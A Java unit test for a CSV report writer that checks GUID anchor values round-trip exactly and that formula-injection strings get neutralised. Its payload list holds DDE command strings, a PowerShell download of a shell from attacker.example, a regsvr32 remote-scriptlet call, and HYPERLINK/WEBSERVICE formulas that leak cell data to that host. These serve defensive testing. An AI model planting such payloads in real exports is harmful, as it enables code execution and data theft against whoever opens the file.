package dev.oktaentra.core.report;

import static org.assertj.core.api.Assertions.assertThat;

import dev.oktaentra.core.anchor.ObjectGuid;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.statistics.Statistics;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The two halves of the formula rule: every anchor form comes back byte for byte, and every well-known CSV-injection
 * payload arrives as text in every column.
 */
class ExcelSafeCsvFormulaRuleTest {

    /** The forms a report writes an anchor in. */
    private static final String[] ANCHOR_COLUMNS = {"ImmutableId", "ObjectGUID", "Braced", "Upper", "Hex",
        "ConnectorSpaceDn", "LdapFilterValue"};

    @Property(tries = 3000)
    void anchorCells_comeBackByteForByte(@ForAll("guids") ObjectGuid guid) throws IOException {
        String immutableId = guid.toImmutableId().value();
        Statistics.label("ImmutableID starts with +").collect(immutableId.charAt(0) == '+')
                .coverage(coverage -> coverage.check(true).percentage(p -> p > 30));
        String[] cells = {immutableId, guid.toString(), "{" + guid + "}", guid.toString().toUpperCase(),
            guid.toHex(), guid.toImmutableId().toConnectorSpaceDn(), guid.toLdapFilterValue()};

        List<CSVRecord> rows = writeAndRead(ANCHOR_COLUMNS, cells);

        assertThat(rows.get(1).toList()).containsExactly(cells);
    }

    /** Half the GUIDs have a first byte whose top six bits are 62, so their ImmutableID starts with {@code +}. */
    @Provide
    Arbitrary<ObjectGuid> guids() {
        Arbitrary<byte[]> any = Arbitraries.bytes().array(byte[].class).ofSize(16);
        Arbitrary<byte[]> plus = any.flatMap(bytes -> Arbitraries.integers().between(0xF8, 0xFB).map(first -> {
            byte[] copy = bytes.clone();
            copy[0] = (byte) (int) first;
            return copy;
        }));
        return Arbitraries.oneOf(any, plus).map(ObjectGuid::of);
    }

    /**
     * CSV-injection payloads as published in OWASP's "CSV Injection" page and the payload lists testers use: DDE to a
     * command, functions that call out (HYPERLINK, WEBSERVICE, IMPORTXML), arithmetic in front of DDE so that a
     * filter on the first character alone looks harmless, and the same behind a tab, a carriage return or a line
     * feed, or with a full-width starter.
     */
    static List<String> payloads() {
        List<String> bare = List.of(
                "=cmd|' /C calc'!A0",
                "=cmd|' /C notepad'!'A1'",
                "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
                "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://attacker.example/x.sct "
                        + "scrobj.dll'!''",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "@SUM(1+9)*cmd|' /C calc'!A0",
                "+cmd|' /C calc'!A0",
                "-cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "+2+3+cmd|' /C calc'!A0",
                "=10+20+cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Error: click to see\")",
                "=HYPERLINK(\"http://attacker.example\")",
                "=WEBSERVICE(\"http://attacker.example/?\"&A1)",
                "=IMPORTXML(CONCAT(\"http://attacker.example/?v=\",A1),\"//a\")",
                "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
                "=1+1",
                "=A1",
                "@A1",
                "+A1&\"x\"",
                "-A1*B1!C1",
                "+1+cmd|' /C calc'!A0",
                "=Sheet2!A1",
                "='file:///etc/passwd'#$passwd.A1",
                "=[book.xlsx]Sheet1!A1");
        List<String> all = new ArrayList<>(bare);
        for (String payload : bare) {
            all.add("\t" + payload);
            all.add("\r" + payload);
            all.add("\n" + payload);
        }
        all.add("\uff1dcmd|' /C calc'!A0");
        all.add("\uff0bcmd|' /C calc'!A0");
        all.add("\uff0dcmd|' /C calc'!A0");
        all.add("\uff20SUM(1+1)*cmd|' /C calc'!A0");
        return all;
    }

    @ParameterizedTest
    @MethodSource("payloads")
    void injectionPayloads_arriveAsTextInEveryColumn(String payload) throws IOException {
        String[] header = {"UserPrincipalName", "DistinguishedName", "ImmutableId", "Note", "Last"};
        String[] cells = new String[header.length];
        Arrays.fill(cells, payload);

        List<CSVRecord> rows = writeAndRead(header, cells);

        assertThat(rows.get(1).toList()).containsOnly("'" + payload);
        assertThat(ExcelSafeCsv.neutralise(payload)).isEqualTo("'" + payload);
    }

    /** Writes one row through the file writer and reads the file back as Excel's RFC 4180 reading would. */
    private static List<CSVRecord> writeAndRead(String[] header, String[] cells) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ExcelSafeCsv csv = ExcelSafeCsv.open(out, header)) {
            csv.row((Object[]) cells);
        }
        String text = out.toString(StandardCharsets.UTF_8).substring(1);
        return CSVFormat.RFC4180.parse(new StringReader(text)).getRecords();
    }
}
